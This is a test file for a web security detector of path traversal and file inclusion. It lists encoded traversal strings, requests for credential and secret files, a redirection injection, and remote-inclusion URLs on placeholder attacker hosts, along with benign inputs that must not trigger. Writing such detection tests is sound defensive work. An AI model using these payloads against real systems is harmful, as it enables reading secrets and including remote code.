// Traversal and restricted-file detectors: climbing out of the web root however it is spelled,
// files no request should read, and the ordinary paths, names and downloads that must stay quiet.
import { describe, expect, it } from "vitest";
import { normalizeEvent } from "@/lib/pipeline/normalize.ts";
import { detectPayloads } from "./index.ts";

type Event = ReturnType<typeof normalizeEvent>;
const path = (p: string) => normalizeEvent({ url: { original: p }, http: { request: { method: "GET" } } });
const query = (value: string) => path(`/file?name=${encodeURIComponent(value)}`);
const header = (value: string) =>
  normalizeEvent({
    url: { original: "/" },
    http: { request: { method: "GET", headers: { "x-original-url": value } } },
  });
const upload = (filename: string) =>
  normalizeEvent({
    url: { original: "/upload" },
    http: {
      request: {
        method: "POST",
        body: {
          content: `--b\r\nContent-Disposition: form-data; name="doc"; filename="${filename}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--`,
        },
      },
    },
  });
const agent = (ua: string) =>
  normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET" } }, user_agent: { original: ua } });
const rfiIds = (e: Event) =>
  detectPayloads(e)
    .filter((d) => d.category === "rfi")
    .map((d) => d.id);
const lfiIds = (e: Event) =>
  detectPayloads(e)
    .filter((d) => d.category === "path_traversal")
    .map((d) => d.id);

describe("traversal and restricted-file detectors", () => {
  it.each([
    ["sn-lfi-traversal", query("0x2e0x2e0x2fsecrets.txt")],
    ["sn-lfi-traversal", header("0x5c0x2e.0x5cboot.ini")],
    ["sn-lfi-traversal", upload("../../home/app/.profile")],
    ["sn-lfi-traversal", upload("..\\startup.bat")],
    ["sn-lfi-traversal", path("/static/..;/admin/console")],
    ["sn-lfi-traversal", query("..;/manager/html")],
    ["sn-lfi-system-file", query("/etc/subgid")],
    ["sn-lfi-system-file", path("/download/proc/cpuinfo")],
    ["sn-lfi-system-file", query("/sys/kernel/notes")],
    ["sn-lfi-system-file", query("/run/secrets/db_password")],
    ["sn-lfi-system-file", query("/home/app/.kube/config")],
    ["sn-lfi-exposed-artifact", path("/exports/shop-2026.sql.gz")],
    ["sn-lfi-exposed-artifact", path("/backup.tar.gz")],
    ["sn-lfi-exposed-artifact", path("/storage/logs/laravel.log")],
    ["sn-lfi-exposed-artifact", query("www.zip")],
    ["sn-lfi-dev-server", path("/@fs/home/app/.env?raw")],
    ["sn-lfi-system-file", query("/var/lib/php/sessions/sess_k2v9q0a7mm1c")],
    ["sn-lfi-system-file", query("/opt/stack/etc/php.ini")],
    ["sn-lfi-system-file", query("/etc/ld.so.preload")],
    ["sn-lfi-system-file", agent("scanbot/2 (/home/deploy/.git-credentials)")],
    ["sn-lfi-traversal", path("/img?f=%c0%ae%c0%ae%c0%afapp.db")],
    ["sn-lfi-traversal", path("/img?f=..%e0%80%af..%e0%80%afkeys")],
    ["sn-lfi-traversal", path("/img?f=..%u2215..%u2215conf")],
    ["sn-lfi-traversal", query("....//....//settings.yml")],
    ["sn-lfi-system-file", query("/etc//group")],
    ["sn-lfi-system-file", query("/etc/./sudoers")],
    ["sn-lfi-system-file", query("~/.zshrc")],
    ["sn-lfi-system-file", path("/app/.cursorrules")],
    ["sn-lfi-system-file", path("/.aiignore")],
    ["sn-lfi-system-file", query("d:\\xampp\\apache\\logs\\access.log")],
    ["sn-lfi-temp-drop", query(">/dev/shm/.x1")],
    ["sn-lfi-temp-drop", query("id; 2>>/var/tmp/out.txt")],
  ])("%s fires on %#", (id, event) => {
    expect(lfiIds(event)).toContain(id);
  });

  it.each([
    ["sn-rfi-path-param", path("/modules/gallery/show.php?cfg_base_dir=http://files.attacker.example/drop")],
    ["sn-rfi-path-param", path("/index.php?settings[rootPath]=ftp://203.0.113.9/")],
    ["sn-rfi-path-param", path("/lib/init.php?includePath=https://bad.example/payload.txt")],
    ["sn-rfi-remote-url", query("https://[2001:db8:4::12]/stage.inc")],
    ["sn-rfi-remote-url", path("/view.php?page=http://bad.example/shell%00")],
  ])("%s fires on %#", (id, event) => {
    expect(rfiIds(event)).toContain(id);
  });

  it.each([
    ["an image path on a CDN", path("/profile?avatar_path=https://cdn.example.net/u/42.png")],
    ["a redirect path", path("/login?redirect_path=https://app.example.org/home")],
    ["a return path in camel case", path("/sso?returnPath=https://portal.example.org/")],
    ["a link with a fragment", path("/share?target=https://docs.example.org/guide#install")],
    ["a URL in a plain parameter", path("/bookmark?u=https://news.example.com/story/1")],
    ["a local folder parameter", path("/files?dir=photos/2026")],
  ])("rfi stays quiet on %s", (_label, event) => {
    expect(rfiIds(event)).toEqual([]);
  });

  it.each([
    ["a file name ending in dots", path("/notes/draft../v2")],
    ["a trailing parent segment", path("/docs/guide/..")],
    ["an ellipsis in prose", query("wait... / what? and then.../ nothing")],
    ["a download", path("/downloads/report-2026.zip")],
    ["a log viewer route", path("/admin/logs?level=error")],
    ["a blog post about logs", path("/blog/reading-your-error-log-files")],
    ["an upload with a plain name", upload("holiday photo (1).jpg")],
    ["an environment page", path("/settings/environment")],
    ["a version string", query("release 0x1f build 7")],
    ["a handle with @", path("/@alice/posts")],
    ["a shell tutorial sentence", query("the > sign sends output to a file, e.g. into /tmp")],
    ["a greater-than comparison", query("price >100 and /tmp discount")],
    ["a question about php.ini", query("where is php.ini on ubuntu?")],
    ["a browser user agent", agent("Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0")],
    ["Japanese text about folders", query("フォルダ /tmp の中身を確認")],
    ["a session id cookie value", query("sess_9f8e7d6c5b4a")],
    ["a URL with a doubled slash", query("https://example.org//docs/./intro")],
    ["a profile page", path("/u/kim/profile?tab=about")],
    ["the well-known folder", path("/.well-known/security.txt")],
    ["a fraction slash in a recipe", query("1\u20442 cup of flour")],
    ["an ellipsis before a double slash", query("see more.... // comments")],
    ["Tamil text", query("தமிழ் கோப்பு / அடைவு")],
    ["a Latin-1 word with à", path("/menu?plat=p%E2t%E9+%E0+la+cr%E8me")],
  ])("stays quiet on %s", (_label, event) => {
    expect(lfiIds(event)).toEqual([]);
  });
});
